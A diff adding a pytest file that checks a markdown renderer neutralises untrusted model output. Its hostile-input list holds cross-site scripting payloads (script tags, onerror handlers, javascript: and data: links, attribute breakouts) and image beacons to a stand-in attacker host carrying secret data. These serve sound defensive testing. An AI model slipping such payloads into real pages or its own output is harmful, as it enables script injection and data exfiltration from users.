@@ -1,0 +1,79 @@
+"""Model output is untrusted: nothing in it may run, load or look like ours."""
+
+from __future__ import annotations
+
+import pytest
+
+from mindloom.web.markdown import Stream, render
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:alert(1))",
+    "![x](https://evil.example/beacon.png?d=secret)",
+    "![x][1]\n\n[1]: https://evil.example/beacon.png",
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '[a](https://ok.example "t\\" onmouseover=alert(1)")',
+    "```html\n<script>1</script>\n```",
+    "<svg><style><img src=x onerror=1></style></svg>",
+    "| a |\n|-|\n| <b onclick=x>y</b> |",
+    '[clobber](#"><form id=x>)',
+    "<iframe src=https://evil.example></iframe>",
+    '```" onmouseover="alert(1)\nx\n```',
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markdown_comes_out_harmless(text):
+    html = render(text).lower()
+    for bad in (
+        "<script",
+        "<img",
+        "<svg",
+        "<style",
+        "<iframe",
+        "<form",
+        "<b ",
+        'href="javascript',
+        'href="data',
+        'href="vb',
+    ):
+        assert bad not in html
+    for tag in html.split("<")[1:]:
+        assert " on" not in tag.split(">")[0].split('"')[0]
+
+
+def test_a_link_does_not_vouch_for_its_target():
+    assert 'rel="noopener noreferrer nofollow ugc"' in render("[x](https://ok.example)")
+
+
+def test_code_is_coloured_by_class_only():
+    html = render("```python\ndef f(): pass\n```")
+    assert 'class="p-k"' in html
+    assert "style=" not in html
+
+
+def test_an_unknown_language_is_plain_text():
+    assert "&lt;x&gt;" in render("```nonsense\n<x>\n```")
+
+
+def test_task_lists_show_their_boxes():
+    assert 'type="checkbox"' in render("- [x] done")
+
+
+def test_a_class_of_ours_cannot_be_borrowed():
+    assert "btn" not in render("```btn-primary\nx\n```").replace("language-btn-primary", "")
+
+
+def test_streamed_blocks_add_up_to_the_whole_document():
+    text = "\n\n".join(
+        f"## Part {i}\n\nSome **bold** words.\n\n- one\n- two\n\n```python\nx = {i}\n```" for i in range(12)
+    )
+    stream, shown = Stream(), []
+    for start in range(0, len(text), 37):
+        stream.feed(text[start : start + 37])
+        finished, rest = stream.flush()
+        shown.append(finished)
+    assert ("".join(shown) + rest).replace("\n", "") == render(text).replace("\n", "")
